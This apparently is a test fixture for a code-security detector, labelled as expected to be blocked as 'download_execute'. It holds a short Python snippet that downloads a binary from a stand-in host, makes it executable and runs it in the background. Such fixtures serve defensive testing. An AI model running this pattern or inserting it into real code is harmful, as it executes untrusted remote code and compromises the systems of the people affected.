# expect: BLOCKED download_execute
from urllib.request import urlretrieve
import os
urlretrieve("http://evil.example/payload.bin", "/tmp/payload.bin")
os.chmod("/tmp/payload.bin", 0o755)
os.system("/tmp/payload.bin &")
